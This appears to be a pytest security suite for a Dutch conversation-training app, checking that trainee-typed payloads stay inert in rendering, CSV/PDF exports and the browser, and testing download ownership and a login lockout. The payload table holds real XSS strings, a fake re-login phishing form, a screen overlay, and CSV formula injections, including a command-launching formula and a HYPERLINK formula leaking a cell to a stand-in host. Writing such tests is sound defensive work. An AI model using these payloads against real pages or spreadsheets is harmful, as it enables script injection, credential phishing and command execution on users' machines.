"""Trainee text is data everywhere (fake models; no model calls).

The hostile payloads of :data:`PAYLOADS` (stored script, a phishing form, a full-window overlay,
images that load files or URLs, formulas, control characters, non-Latin-1 text) are replayed:

- here through the storage, the exports and the views' Markdown: no HTML comes out of the
  rendering, no CSV cell starts with a formula character, the PDF is written from text and
  holds € and één, nothing is fetched or embedded; the download route refuses other users;
  the login brake refuses the 6th wrong password within a minute without computing a hash and
  answers unknown and known users in the same time; ``actor user`` reads passwords only from a
  prompt or standard input;
- in ``test_browser_security.py`` as a trainee typing them in the browser, checked as a
  reviewer and a trainer (no dialog, no request to a foreign URL, no form or overlay rendered).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import re
import statistics
import time
from html import unescape

import pytest
from markdown_it import MarkdownIt

from actor import review
from actor.auth import LoginBrake, Users
from actor.db import Database
from actor.web import render
from actor.web.downloads import Downloads
from actor.web.export import markdown_pdf

FOREIGN = "http://127.0.0.1:9"  # the discard port: nothing answers there
PAYLOADS = {
    "svg-javascript-link": '<svg><a href="javascript:alert(document.domain)"><text y="20">svg</text></a></svg>',
    "phishing-form": (f'<form action="{FOREIGN}/steal"><p>Sessie verlopen, log opnieuw in</p>'
                      '<input type="password" name="pw"><button>Inloggen</button></form>'),
    "overlay": ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">'
                "Sessie verlopen</div>"),
    "img-x": "<img src=x>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-server-file": '<img src="/etc/actor-secret.png">',
    "markdown-image": f"![x]({FOREIGN}/x.png)",
    "script": "<script>alert(1)</script>",
    "iframe": f'<iframe src="{FOREIGN}/frame"></iframe>',
    "style": "<style>*{display:none !important}</style>",
    "markdown-js-link": "[klik hier](javascript:alert(1))",
    "autolink": f"<{FOREIGN}/auto> {FOREIGN}/bare www.evil.invalid",
    "entity": "&quot;&lt;img src=x onerror=alert(1)&gt;",
    "latex": "$$\\href{javascript:alert(1)}{klik}$$",
    "formula-hyperlink": f'=HYPERLINK("{FOREIGN}/?leak="&A1,"Klik")',
    "formula-cmd": "=cmd|' /C calc'!A0",
    "formula-plus": "+SUM(1,2)",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1,2)",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "nul": "Goedemiddag\x00 mevrouw\x1b[31m",
    "unicode": "Dat kost € 12,50 — één moment, ő, مرحبا",
}
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
TAGS_ALLOWED = {"p", "strong", "em", "br", "h1", "h2", "h3", "ul", "ol", "li", "blockquote", "hr", "code"}
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def tags(html: str) -> set[str]:
    return {t.lower() for t in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html)}


def plain(value: str) -> str:
    """What a reader sees of ``value`` once rendered: controls gone, lines joined."""
    return "".join(line.strip() for line in render.clean(value).split("\n"))


# --- rendering ---------------------------------------------------------------------------------

@pytest.mark.parametrize("name", PAYLOADS)
def test_rendered_text_is_the_characters_and_no_markup(name):
    out = MD.render("**Trainee:** " + render.text(PAYLOADS[name]))
    assert tags(out) <= {"p", "strong", "br"}, out
    seen = unescape(re.sub(r"<[^>]+>", "", out)).replace("Trainee: ", "", 1).replace("\n", "")
    assert seen.strip() == plain(PAYLOADS[name])


def test_block_markers_in_a_reply_stay_text_inside_a_list_item():
    reply = "# kop\n- lijst\n1. een\n> citaat\n    code\n```\nfence\n```\n---\n===\n| a | b |\n|---|---|\n[x]: http://e.invalid"
    out = MD.render("- trainee: " + render.text(reply) + "\n- next")
    assert tags(out) == {"ul", "li", "br"} and out.count("<li>") == 2


def test_clean_removes_control_characters_but_keeps_lines_and_tabs():
    assert render.clean("a\x00b\x1b[31mc\x7f\x85d\r\ne\rf\tg") == "ab[31mcd\ne\nf\tg"


# --- storage and exports -----------------------------------------------------------------------

def seed(db: Database, png: str) -> str:
    """anna's session: one turn per payload (also as the customer's answer, the reason, the
    evidence, the tip and a reviewer comment), and a stored debrief quoting them."""
    from actor.evaluator.assessment import Debrief, Improvement, Moment

    state = {"level": 1, "aggression_type": "frustration"}
    sid = db.create_session(owner="anna", scenario="counter", difficulty="medium", lang="nl", mode="practice",
                            opening={"text": PAYLOADS["svg-javascript-link"]}, policy=[])
    parent = None
    payloads = {**PAYLOADS, "img-real-file": f'<img src="{png}"> ![p]({png})'}
    for text in payloads.values():
        criteria = {"stays_calm": {"reason": text, "evidence": text, "verdict": "fail", "source": "model"}}
        parent = db.add_turn(sid, parent, customer_line="Nou?", reply=text, move="neutral", state_before=state,
                             state_after=state, answer={"text": text, "path": "model", "tactic": "vent", "prompt_sha256": "x"},
                             assessment={"criteria": criteria, "tip": text, "tone": 3, "move": "neutral", "status": "graded",
                                         "rubric_sha256": "r" * 64, "prompt_sha256": "p" * 64, "model_id": "fake"})
        db.add_comment(parent, "rita", text if text.strip() else "leeg")
    quote = PAYLOADS["img-x"] + " " + PAYLOADS["unicode"]
    debrief = Debrief(lang="nl", turns=len(payloads), pass_rates={"stays_calm": 0.0}, overall=0.0,
                      best=[Moment(turn=1, quote=quote, why=PAYLOADS["phishing-form"])],
                      worst=[Moment(turn=2, quote=PAYLOADS["markdown-image"], why=PAYLOADS["overlay"])],
                      improvements=[Improvement(criterion="stays_calm", turn=1, said=quote, better=PAYLOADS["script"])],
                      escalation=[1] * len(payloads), next_exercise=PAYLOADS["formula-cmd"])
    db.update_session(sid, debrief=debrief.model_dump(), debrief_markdown="# raw <img src=x>")
    return sid


@pytest.fixture
def seeded(tmp_path):
    from PIL import Image

    png = tmp_path / "secret.png"
    Image.new("RGB", (8, 8), (255, 0, 0)).save(png)
    db = Database.open(f"sqlite:///{tmp_path}/sec.db")
    return db, seed(db, str(png)), png


def test_nul_is_never_stored(seeded):
    db, sid, _ = seeded
    assert all("\x00" not in (t.reply + json.dumps(t.assessment) + json.dumps(t.answer)) for t in db.path(sid))
    assert all("\x00" not in c.text for c in db.comments(sid))


def test_the_review_transcript_renders_no_html_and_shows_every_payload_as_text(seeded):
    db, sid, _ = seeded
    md = review.export_markdown(db, sid)
    html = MD.render(md)
    assert tags(html) <= TAGS_ALLOWED, tags(html) - TAGS_ALLOWED
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html)  # only in text, never in an attribute
    seen = unescape(re.sub(r"<[^>]+>", "", html))
    for name, payload in PAYLOADS.items():
        if name not in ("formula-tab", "formula-cr", "nul"):
            assert payload in seen, name
    assert "raw <img" not in seen  # the structured debrief is shown, escaped, not the stored Markdown


def test_csv_has_a_bom_no_formula_cell_and_every_payload_as_data(seeded):
    db, sid, _ = seeded
    data = review.export_bytes(db, [sid], "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\x00" not in text and "\x1b" not in text
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not cell.startswith(FORMULA_CHARS) for row in rows for cell in row)
    replies = [r[8] for r in rows[1:]]
    assert "'" + PAYLOADS["formula-cmd"] in replies and "'" + PAYLOADS["formula-at"] in replies
    assert "'\t=1+1" in replies and "'\n=1+1" in replies  # tab and CR starts neutralised too
    assert PAYLOADS["unicode"] in replies and PAYLOADS["img-x"] in replies  # text kept as typed
    assert review.csv_cell("  =1+1") == "'  =1+1" and review.csv_cell("＝1+1") == "'＝1+1" and review.csv_cell(3) == "3"


def test_the_pdf_is_written_from_text_with_euro_and_een_and_loads_no_image(seeded, monkeypatch):
    from fpdf import FPDF
    from pypdf import PdfReader

    db, sid, png = seeded
    monkeypatch.setattr(FPDF, "write_html", lambda *a, **k: pytest.fail("no HTML may reach the PDF writer"))
    monkeypatch.setattr(FPDF, "image", lambda *a, **k: pytest.fail("no image may be loaded"))
    data = review.export_bytes(db, [sid], "pdf")
    assert data.startswith(b"%PDF") and b"/Subtype /Image" not in data
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    for needle in ("€", "één", "ő", "<img src=x>", "javascript:alert(document.domain)", f"{FOREIGN}/x.png"):
        assert needle in text, needle


def test_the_debrief_pdf_is_written_for_a_reply_with_an_image_tag(seeded):
    from pypdf import PdfReader

    db, sid, _ = seeded
    md = render.debrief_markdown(db.get_session(sid).debrief)
    assert tags(MD.render(md)) <= TAGS_ALLOWED
    data = markdown_pdf(md, title="Debrief")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert "<img src=x> Dat kost € 12,50 — één moment" in text.replace("\n", " ")


def test_a_debrief_stored_by_another_version_is_shown_as_text():
    assert render.debrief_markdown({"lang": "xx", "markdown": "<img src=x>"}) == "\\<img src=x\\>"


def test_a_character_without_a_glyph_is_replaced_visibly():
    from actor.web.export import printable

    assert printable("漢 € ő") == "\ufffd € ő"


def test_the_markdown_export_holds_no_html(seeded):
    db, sid, _ = seeded
    md = review.export_bytes(db, [sid], "md").decode("utf-8")
    assert tags(MD.render(md)) <= TAGS_ALLOWED


# --- downloads ---------------------------------------------------------------------------------

class FakeUsers:
    def __init__(self, roles: dict[str, str]) -> None:
        self.roles = roles

    def required(self) -> bool:
        return bool(self.roles)

    def role(self, name):
        return self.roles.get(name)


def client_for(downloads: Downloads, sessions: dict[str, str]):
    """``get(path, token=None)`` on a Starlette app with the download route and Gradio's token
    table (login cookie → user)."""
    from starlette.applications import Starlette
    from starlette.testclient import TestClient

    app = Starlette(routes=[downloads.route()])
    app.cookie_id, app.tokens = "cid", sessions

    def get(path: str, token: str | None = None, cookie: str = "access-token-cid"):
        client = TestClient(app)
        if token:
            client.cookies.set(cookie, token)
        return client.get(path)

    return get


def test_a_download_is_served_only_to_its_owner_while_their_role_allows():
    now = [0.0]
    users = FakeUsers({"anna": "trainee", "bram": "trainee", "rita": "reviewer"})
    downloads = Downloads(users, ttl=600, clock=lambda: now[0])
    mine = downloads.offer(b"%PDF debrief", "debrief.pdf", "anna")
    export = downloads.offer(b"a,b", "sessions.csv", "rita", ("reviewer", "trainer"))
    assert re.fullmatch(r"download/[A-Za-z0-9_-]{43}", mine)
    get = client_for(downloads, {"t-anna": "anna", "t-bram": "bram", "t-rita": "rita"})
    got = get("/" + mine, "t-anna")
    assert got.status_code == 200 and got.content == b"%PDF debrief"
    assert got.headers["content-disposition"] == 'attachment; filename="debrief.pdf"'
    assert got.headers["cache-control"] == "no-store" and got.headers["x-content-type-options"] == "nosniff"
    assert get("/" + mine, "t-bram").status_code == 404  # another trainee
    assert get("/" + mine, "t-rita").status_code == 404  # not the reviewer's either
    assert get("/" + mine).status_code == 404  # nobody logged in
    assert get("/" + export, "t-anna").status_code == 404
    assert get("/" + export, "t-rita", cookie="access-token-unsecure-cid").status_code == 200
    users.roles["rita"] = "trainee"  # her role changed: the export is no longer hers to fetch
    assert get("/" + export, "t-rita").status_code == 404
    assert get("/download/" + "A" * 43, "t-anna").status_code == 404
    now[0] = 601  # expired: gone from memory
    assert get("/" + mine, "t-anna").status_code == 404
    assert downloads._offers == {}


def test_without_logins_the_link_alone_fetches_and_old_offers_are_dropped_past_the_memory_cap():
    downloads = Downloads(FakeUsers({}), max_bytes=10)
    first = downloads.offer(b"12345678", "a.md", None)
    second = downloads.offer(b"12345678", "b.md", None)
    get = client_for(downloads, {})
    assert get("/" + second).status_code == 200 and get("/" + first).status_code == 404


# --- login brake -------------------------------------------------------------------------------

@pytest.fixture
def counted_hashes(monkeypatch):
    calls = []
    real = hashlib.scrypt

    def scrypt(*args, **kwargs):
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(hashlib, "scrypt", scrypt)
    return calls


def test_the_sixth_wrong_password_within_a_minute_is_refused_without_a_hash(tmp_path, counted_hashes, caplog):
    now = [1000.0]
    db = Database.open(f"sqlite:///{tmp_path}/u.db")
    users = Users(db, LoginBrake(clock=lambda: now[0]))
    users.add("anna", "trainee", "anna-geheim")
    counted_hashes.clear()
    caplog.set_level(logging.INFO, logger="actor.auth")
    delays = []
    for _ in range(5):
        ok, delay = users.attempt("anna", "wrong-password", "10.0.0.1")
        assert not ok
        delays.append(delay)
        now[0] += 5
    assert len(counted_hashes) == 5 and delays == sorted(delays) and delays[0] < delays[-1]  # growing delays
    assert users.attempt("anna", "wrong-password", "10.0.0.1") == (False, 0.0)
    assert users.attempt("anna", "anna-geheim", "10.0.0.2") == (False, 0.0)  # the name is locked, from anywhere
    assert len(counted_hashes) == 5  # refused before any hash
    assert "locked" in caplog.text and "'anna'" in caplog.text and "wrong-password" not in caplog.text
    now[0] += 301  # the lockout (5 minutes) is over; five more failures lock for 10 minutes
    for _ in range(5):
        assert not users.login("anna", "nope-nope", "10.0.0.3")
    assert len(counted_hashes) == 10
    now[0] += 301
    assert not users.login("anna", "anna-geheim", "10.0.0.4") and len(counted_hashes) == 10
    now[0] += 300
    assert users.login("anna", "anna-geheim", "10.0.0.4") and len(counted_hashes) == 11


def test_one_client_trying_many_names_is_braked_and_others_are_not(tmp_path, counted_hashes):
    now = [0.0]
    db = Database.open(f"sqlite:///{tmp_path}/u.db")
    users = Users(db, LoginBrake(clock=lambda: now[0]))
    users.add("anna", "trainee", "anna-geheim")
    counted_hashes.clear()
    for n in range(20):  # four tries each on five names: no name is locked, the address is
        assert not users.login(f"naam{n % 5}", "raden123", "10.6.6.6")
        now[0] += 1
    assert not users.login("anna", "anna-geheim", "10.6.6.6") and len(counted_hashes) == 20
    assert users.login("anna", "anna-geheim", "10.0.0.1")  # another client: anna herself gets in


def test_parallel_attempts_get_no_extra_tries():
    brake = LoginBrake(clock=lambda: 0.0)
    keys = [("user", "anna")]
    assert [brake.begin(keys) for _ in range(7)] == [True] * 5 + [False] * 2
    for _ in range(5):
        brake.end(keys, False)
    assert not brake.begin(keys) and brake.locked(keys) == pytest.approx(300)


def test_unknown_and_known_users_take_the_same_time(tmp_path):
    db = Database.open(f"sqlite:///{tmp_path}/u.db")
    users = Users(db, LoginBrake(max_failures=10_000))
    users.add("anna", "trainee", "anna-geheim")
    known, unknown = [], []
    for _ in range(9):
        for name, times in (("anna", known), ("nobody-here", unknown)):
            start = time.perf_counter()
            assert not users.login(name, "wrong-password")
            times.append(time.perf_counter() - start)
    k, u = statistics.median(known), statistics.median(unknown)
    assert abs(k - u) / max(k, u) < 0.2, (k, u)


def test_the_gradio_callback_delays_a_failure_and_accepts_the_right_password(tmp_path):
    import asyncio

    from actor.auth import client_address

    db = Database.open(f"sqlite:///{tmp_path}/u.db")
    users = Users(db)
    users.add("anna", "trainee", "anna-geheim")

    async def run():
        client_address.set("10.1.1.1")
        start = time.perf_counter()
        wrong = await users.authenticate("anna", "wrong-password")
        waited = time.perf_counter() - start
        return wrong, waited, await users.authenticate("anna", "anna-geheim")

    wrong, waited, right = asyncio.run(run())
    assert not wrong and right and waited >= users.brake.delay
    assert users.brake._records[("client", "10.1.1.1")].failures  # counted per client


# --- user commands -----------------------------------------------------------------------------

def test_user_commands_read_the_password_from_stdin_only(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from actor.cli import app

    monkeypatch.setenv("ACTOR_DATABASE_URL", f"sqlite:///{tmp_path}/cli.db")
    runner = CliRunner()
    refused = runner.invoke(app, ["user", "add", "anna", "--role", "trainee", "--password", "anna-geheim"])
    assert refused.exit_code != 0 and "No such option" in refused.output
    added = runner.invoke(app, ["user", "add", "anna", "--role", "trainee"], input="anna-geheim\n")
    assert added.exit_code == 0, added.output
    users = Users(Database.open(f"sqlite:///{tmp_path}/cli.db"))
    assert users.login("anna", "anna-geheim") and "anna-geheim" not in added.output
    assert runner.invoke(app, ["user", "add", "bram"], input="kort\n").exit_code == 2
    assert runner.invoke(app, ["user", "passwd", "anna"], input="nieuw-geheim\n").exit_code == 0
    assert users.login("anna", "nieuw-geheim") and not users.login("anna", "anna-geheim")
    assert runner.invoke(app, ["user", "passwd", "nobody"], input="nieuw-geheim\n").exit_code == 2
    assert runner.invoke(app, ["user", "remove", "anna"], input="n\n").exit_code == 1 and users.role("anna")
    assert runner.invoke(app, ["user", "remove", "anna", "--yes"]).exit_code == 0 and users.role("anna") is None
    assert runner.invoke(app, ["user", "remove", "anna", "--yes"]).exit_code == 2


# --- trainer files -----------------------------------------------------------------------------

def test_an_over_long_trainer_file_is_refused_with_the_limit_named():
    from actor.web.trainer import MAX_FILE_BYTES, problems_of

    (message,) = problems_of("scenarios/counter.yaml", "id: counter\n" + "# x\n" * 20_000)
    assert f"{MAX_FILE_BYTES:,} bytes" in message and "80,012 bytes" in message
    assert problems_of("scenarios/counter.yaml", "a: [") and "&quot;" not in render.text('in "<unicode string>"')


# --- in the browser: a trainee types every payload; a reviewer and a trainer read them ----------

DANGER = ("form, input[type=password], img, iframe, script, style, svg a, a[href^='javascript'], "
          "[style*='position:fixed'], [style*='position: fixed'], [onerror]")
CUSTOMER_LINES = ["<img src=x onerror=alert(2)> Nou, en?", f"![c]({FOREIGN}/customer.png) Dat hoor ik vaker.",
                  '<a href="javascript:alert(3)">klik</a> Schiet eens op.', f'<form action="{FOREIGN}/c"><input type="password"></form> Nou?']


def dangerous(page, selector: str) -> list[str]:
    """Elements inside ``selector`` that a payload must never produce (outer HTML, shortened)."""
    inside = ", ".join(f"{part.strip()} :is({DANGER})" for part in selector.split(","))
    return page.eval_on_selector_all(inside, "els => els.map(e => e.outerHTML.slice(0, 120))")


class Watch:
    """Dialogs a page opens and requests it makes to another origin than the app's."""

    def __init__(self, page, origin: str) -> None:
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: None if r.url.startswith((origin, "data:", "blob:")) else self.foreign.append(r.url))


@pytest.mark.slow
def test_payloads_typed_by_a_trainee_stay_text_for_reviewers_and_trainers(model_cache_home, tmp_path):
    from apprunner import CHROMIUM, Server

    if CHROMIUM is None:
        pytest.skip("needs Debian's chromium")
    from playwright.sync_api import expect, sync_playwright

    url = f"sqlite:///{tmp_path}/sec.db"
    users = Users(Database.open(url))
    for name, role in (("anna", "trainee"), ("bram", "trainee"), ("rita", "reviewer"), ("tina", "trainer"), ("lotte", "trainee")):
        users.add(name, role, f"{name}-geheim")
    server = Server(model_cache_home, tmp_path / "app.log", ACTOR_DATABASE_URL=url, ACTOR_PERSONA__BACKEND="fake",
                    ACTOR_EVALUATOR__BACKEND="fake", ACTOR_PERSONA__FAKE_RESPONSES=json.dumps(CUSTOMER_LINES))
    server.start()
    origin = server.url.rstrip("/")
    watches: list[Watch] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])

            def login(name: str):
                page = browser.new_context(viewport={"width": 1280, "height": 1400}).new_page()
                page.set_default_timeout(60_000)
                watches.append(Watch(page, origin))
                page.goto(server.url)
                page.get_by_label("username").fill(name)
                page.get_by_label("password").fill(f"{name}-geheim")
                page.get_by_role("button", name="Login").click()
                page.get_by_role("tab", name="Rehearse").wait_for()
                return page

            # anna types every payload, one reply each
            anna = login("anna")
            expect(anna.get_by_text("Logged in as anna (trainee)")).to_be_visible()
            assert str(model_cache_home) not in anna.content()  # the data folder is not shown to trainees
            anna.get_by_role("button", name="Start the conversation").click()
            box, sent = anna.locator("#reply-box textarea"), anna.locator('[data-testid="user"]')
            expect(anna).to_have_url(re.compile(r"[?&]session=[0-9a-f]+"))
            sessions = [re.search(r"[?&]session=([0-9a-f]+)", anna.url).group(1)]
            for n, payload in enumerate(PAYLOADS.values(), 1):
                expect(box).to_be_editable()
                box.fill(payload)
                anna.locator("#send-button").click()
                expect(sent).to_have_count(n)
            expect(box).to_be_editable()
            expect(sent.nth(0)).to_contain_text(PAYLOADS["svg-javascript-link"])
            expect(sent.nth(5)).to_contain_text(PAYLOADS["img-server-file"])
            bots = anna.locator('[data-testid="bot"]')
            for line in CUSTOMER_LINES[:2]:  # the customer's lines are text too
                expect(bots.filter(has_text=line).first).to_be_visible()
            assert dangerous(anna, '[data-testid="user"], [data-testid="bot"], #feedback-panel') == []
            anna.get_by_role("button", name="Gesprek afronden").click()
            expect(anna.locator("#debrief")).to_contain_text("Nabespreking")
            assert dangerous(anna, "#debrief") == []
            pdf_link = anna.get_by_role("link", name="Download nabespreking (PDF)").get_attribute("href")
            md_link = anna.get_by_role("link", name="Download nabespreking (Markdown)").get_attribute("href")
            pdf = anna.request.get(server.url + pdf_link)
            assert pdf.status == 200 and pdf.body().startswith(b"%PDF") and pdf.headers["content-type"] == "application/pdf"
            assert tags(MD.render(anna.request.get(server.url + md_link).text())) <= TAGS_ALLOWED
            old_path = f"gradio_api/file={model_cache_home}/exports/{sessions[0]}/debrief.pdf"
            assert anna.request.get(server.url + old_path).status in (403, 404)  # no folder is served
            anna.reload()  # the stored debrief, shown again after a reload
            expect(anna.locator("#debrief")).to_contain_text("Nabespreking")
            assert dangerous(anna, '#debrief, [data-testid="user"], [data-testid="bot"]') == []

            bram = login("bram")  # another trainee, and nobody at all, get nothing
            assert bram.request.get(server.url + pdf_link).status == 404
            assert p.request.new_context().get(server.url + pdf_link).status == 404

            # a reviewer and a trainer open anna's transcript
            exports = {}
            for reader in ("rita", "tina"):
                page = login(reader)
                page.get_by_role("tab", name="Review").click()
                page.locator("#review-session-id textarea, #review-session-id input").first.fill(sessions[0])
                page.get_by_role("button", name="Open").click()
                transcript = page.locator("#review-transcript")
                expect(transcript).to_contain_text(PAYLOADS["phishing-form"])
                expect(transcript).to_contain_text(PAYLOADS["markdown-image"])
                expect(transcript).to_contain_text("Dat kost € 12,50 — één moment")
                assert dangerous(page, "#review-transcript") == []
                assert page.locator("#review-transcript a").count() == 0  # not even a harmless link
                if reader == "rita":
                    page.screenshot(path=str(tmp_path / "review.png"), full_page=True)
                    page.locator("#export-ids textarea, #export-ids input").first.fill(sessions[0])
                    for fmt in ("csv", "md", "pdf"):
                        page.get_by_role("button", name=f"Export {fmt.upper()}").click()
                        link = page.locator("#export-file")
                        expect(link).to_contain_text(f".{fmt}")
                        exports[fmt] = link.get_attribute("href")
                        got = page.request.get(server.url + exports[fmt])
                        assert got.status == 200
                        exports[fmt + "-body"] = got.body()
                    assert anna.request.get(server.url + exports["csv"]).status == 404  # the reviewer's export is hers
                else:  # the trainer: validation messages and the A/B run's transcripts
                    page.get_by_role("tab", name="Scenarios & rubric").click()
                    page.get_by_role("combobox", name="File").click()
                    page.get_by_role("option", name="scenarios/counter.yaml").click()
                    editor = page.locator("#trainer-editor .cm-content")
                    expect(editor).to_contain_text("VlotPost")
                    page.locator("#trainer-ab").click()
                    expect(page.locator("#trainer-figures")).to_contain_text("in character (shown lines)")
                    assert dangerous(page, "#trainer-transcripts") == []
                    editor.click()
                    page.keyboard.press("Control+A")
                    page.keyboard.type("a: @b")
                    page.get_by_role("button", name="Validate").click()
                    status = page.locator("#trainer-status")
                    expect(status).to_contain_text('"<unicode string>"')
                    assert "&quot;" not in status.inner_text()
                    page.screenshot(path=str(tmp_path / "trainer.png"), full_page=True)

            # the exports hold the payloads as data
            rows = list(csv.reader(io.StringIO(exports["csv-body"].decode("utf-8-sig"))))
            assert exports["csv-body"].startswith(b"\xef\xbb\xbf") and len(rows) == len(PAYLOADS) + 1
            assert all(not cell.startswith(FORMULA_CHARS) for row in rows for cell in row)
            assert tags(MD.render(exports["md-body"].decode("utf-8"))) <= TAGS_ALLOWED
            from pypdf import PdfReader

            text = "".join(pg.extract_text() for pg in PdfReader(io.BytesIO(exports["pdf-body"])).pages)
            assert "€" in text and "één" in text and "<img src=x>" in text

            # the login brake over HTTP: five wrong passwords, then even the right one is refused
            client = p.request.new_context()
            codes = [client.post(server.url + "login", form={"username": "lotte", "password": "fout-wachtwoord"}).status
                     for _ in range(6)]
            start = time.perf_counter()
            right = client.post(server.url + "login", form={"username": "lotte", "password": "lotte-geheim"}).status
            assert codes == [400] * 6 and right == 400 and time.perf_counter() - start < 1
            browser.close()
    finally:
        server.stop()
    assert all(w.dialogs == [] for w in watches), [w.dialogs for w in watches]
    assert all(w.foreign == [] for w in watches), [w.foreign for w in watches]
    log = (tmp_path / "app.log").read_text()
    assert "login locked for user 'lotte'" in log and "fout-wachtwoord" not in log
